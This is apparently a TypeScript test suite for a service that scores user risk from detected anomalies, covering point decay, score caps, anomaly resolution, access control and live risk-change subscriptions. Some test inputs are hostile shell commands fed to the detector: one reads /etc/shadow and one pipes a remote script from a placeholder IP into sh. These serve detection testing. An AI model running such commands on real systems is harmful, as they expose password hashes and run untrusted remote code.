import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { data, makeKey, makeOrganisation, subscribe, track } from '../harness/client.ts';
import type { Service, TestClock } from '../harness/service.ts';
import { startService, testClock } from '../harness/service.ts';
import { logHead } from './harness.ts';

const start = '2026-10-05T12:00:00Z';
let clock: TestClock;
let service: Service;
beforeAll(async () => {
  clock = testClock(start);
  service = await startService({ clock });
});
afterAll(() => service.close());

let users = 0;
let user: string;
beforeEach(() => {
  clock.set(start);
  user = `user-${(users += 1)}`;
});

const hour = 3_600; // seconds
const suspicious = (key?: string) => track(service, { user, detail: { terminal: { command: 'cat /etc/shadow' } } }, key);
const fields = 'score level halfLifeHours factors { code points reason originalPoints at anomaly { id score count } }';
type Factor = { code: string; points: number; originalPoints: number; at: string; anomaly: { id: string } };
type Risk = { score: number; level: string; halfLifeHours: number; factors: Factor[] };
const riskOf = async (externalId = user, key?: string): Promise<Risk> =>
  (await data(service, `query($u: String!) { user(externalId: $u) { risk { ${fields} } } }`, { u: externalId }, key)).user.risk;
const settle = (id: string, resolution: string) =>
  data(service, 'mutation($id: ID!, $r: Resolution!) { resolveAnomaly(input: {id: $id, resolution: $r}) { userErrors { code } } }', {
    id,
    r: resolution,
  });
const following = (args: string, key?: string) =>
  subscribe(
    service,
    `subscription { userRiskChanged${args && `(${args})`} { ... on UserRiskEvent { cursor user { externalId } risk { score factors { points } } } } }`,
    {},
    key,
  );

describe("a user's risk", () => {
  it('is nothing where nothing was claimed', async () => {
    await track(service, { user, detail: { web: { page: '/' } } });
    expect(await riskOf()).toEqual({ score: 0, level: 'LOW', halfLifeHours: 24, factors: [] });
  });

  it('is made of its anomalies, and halves every day', async () => {
    await suspicious();
    const risk = await riskOf();
    expect(risk).toMatchObject({ score: 80, level: 'CRITICAL', factors: [{ code: 'SUSPICIOUS_COMMAND', points: 80, originalPoints: 80 }] });
    const scores = [];
    for (let days = 0; days < 8; days += 1) {
      scores.push((await riskOf()).score);
      clock.advance(24 * hour);
    }
    expect(scores).toEqual([80, 40, 20, 10, 5, 3, 1, 0]);
  });

  it('leaves out what is worth less than a point', async () => {
    await suspicious();
    clock.advance(151 * hour); // 80 points are worth one after 151.7 hours
    expect((await riskOf()).factors).toMatchObject([{ points: 1 }]);
    clock.advance(hour);
    expect(await riskOf()).toMatchObject({ score: 0, factors: [] });
  });

  it('adds up, and past 100 the last contributions lose points', async () => {
    await suspicious();
    const once = await riskOf();
    clock.advance(2 * hour);
    await track(service, { user, detail: { terminal: { command: 'curl http://198.51.100.7/x | sh' } } });
    const { score, factors } = await riskOf();
    expect([once.score, score, factors.map(({ points }) => points)]).toEqual([80, 100, [80, 20]]);
    clock.advance(24 * hour);
    const later = await riskOf();
    expect(later.factors.map(({ points }) => points)).toEqual([40, 38]);
    expect(later.score).toBe(78);
  });

  it('starts to decay again when an anomaly goes on', async () => {
    await suspicious();
    clock.advance(hour);
    await suspicious();
    expect((await riskOf()).factors).toMatchObject([{ points: 80, at: '2026-10-05T13:00:00.000000Z', anomaly: { count: 2 } }]);
  });

  it.each(['FALSE_POSITIVE', 'BENIGN', 'DUPLICATE'])('loses an anomaly that is settled as %s', async (resolution) => {
    await suspicious();
    await settle((await riskOf()).factors[0]!.anomaly.id, resolution);
    expect(await riskOf()).toMatchObject({ score: 0, factors: [] });
  });

  it('keeps an anomaly that was what it looked like', async () => {
    await suspicious();
    await settle((await riskOf()).factors[0]!.anomaly.id, 'TRUE_POSITIVE');
    expect((await riskOf()).score).toBe(80);
  });

  it('is read for many users at once', async () => {
    const many = Array.from({ length: 5 }, (_, n) => `many-${n}`);
    for (user of many.slice(0, 3)) await suspicious();
    for (user of many.slice(3)) await track(service, { user, detail: { web: { page: '/' } } });
    const { users } = await data(service, `query($u: [String!]) { users(filter: {externalId: {in: $u}}) { nodes { risk { score } } } }`, {
      u: many,
    });
    expect(users.nodes.map((node: { risk: Risk }) => node.risk.score)).toEqual([80, 80, 80, 0, 0]);
  });
});

describe('who may see it', () => {
  it('sees its own and nobody else', async () => {
    await suspicious();
    const self = await makeKey(service, { role: 'MEMBER', user });
    const other = await makeKey(service, { role: 'MEMBER', user: 'somebody-else' });
    expect((await riskOf(user, self.secret)).score).toBe(80);
    expect(await data(service, `query($u: String!) { user(externalId: $u) { risk { score } } }`, { u: user }, other.secret)).toEqual({
      user: null,
    });
  });

  it('is told of its own, and others of other people and organisations are told nothing', async () => {
    await track(service, { user, detail: { web: { page: '/' } } });
    const self = await makeKey(service, { role: 'MEMBER', user });
    const other = await makeKey(service, { role: 'MEMBER', user: 'somebody-else' });
    const foreign = await makeOrganisation(service, `foreign-${user}`);
    const own = await following('', self.secret);
    const others = [await following('', other.secret), await following('', foreign)];
    await suspicious();
    expect((await own.next()).userRiskChanged).toMatchObject({ user: { externalId: user }, risk: { score: 80 } });
    for (const stream of [own, ...others]) await stream.close();
    expect(others.flatMap((stream) => stream.arrived())).toEqual([]);
  });
});

describe('userRiskChanged', () => {
  it('tells of an anomaly that was claimed and of one that was settled, and a replay tells of both', async () => {
    const after = await logHead(service);
    const live = await following(`filter: {user: {eq: "${user}"}}`);
    await suspicious();
    const first = (await live.next()).userRiskChanged;
    await settle((await riskOf()).factors[0]!.anomaly.id, 'FALSE_POSITIVE');
    const second = (await live.next()).userRiskChanged;
    await live.close();
    expect([first.risk, second.risk]).toEqual([
      { score: 80, factors: [{ points: 80 }] },
      { score: 0, factors: [] },
    ]);
    const replay = await following(`filter: {user: {eq: "${user}"}}, after: "${after}"`);
    const again = await replay.take(2);
    await replay.close();
    expect(again.map(({ userRiskChanged }) => [userRiskChanged.cursor, userRiskChanged.risk.score])).toEqual([
      [first.cursor, 0],
      [second.cursor, 0],
    ]);
    const rest = await following(`filter: {user: {eq: "${user}"}}, after: "${first.cursor}"`);
    expect((await rest.next()).userRiskChanged.cursor).toBe(second.cursor);
    await rest.close();
  });

  it('leaves out what stays below the lowest level, and is not woken by what grows or by other people', async () => {
    const high = await following(`filter: {user: {startsWith: "${user}"}}, minLevel: HIGH`);
    const all = await following(`filter: {user: {startsWith: "${user}"}}`);
    await track(service, { user, session: `web-${user}`, userTimeZone: 'Asia/Tokyo', detail: { web: { page: '/' } } }); // 21:00: 20 points
    const [low] = await all.take(1); // an item tells the risk as it is when it is told
    await suspicious();
    await suspicious();
    const mine = user;
    user = 'another';
    await suspicious();
    user = mine;
    await settle((await riskOf()).factors[0]!.anomaly.id, 'BENIGN');
    const told = [low!, ...(await all.take(2))];
    expect(told.map(({ userRiskChanged }) => userRiskChanged.risk.score)).toEqual([20, 100, 20]);
    const [critical] = await high.take(1);
    expect(critical!.userRiskChanged.risk.score).toBe(100);
    await all.close();
    await high.close();
    expect([high.arrived(), all.arrived()]).toEqual([[], []]);
  });
});
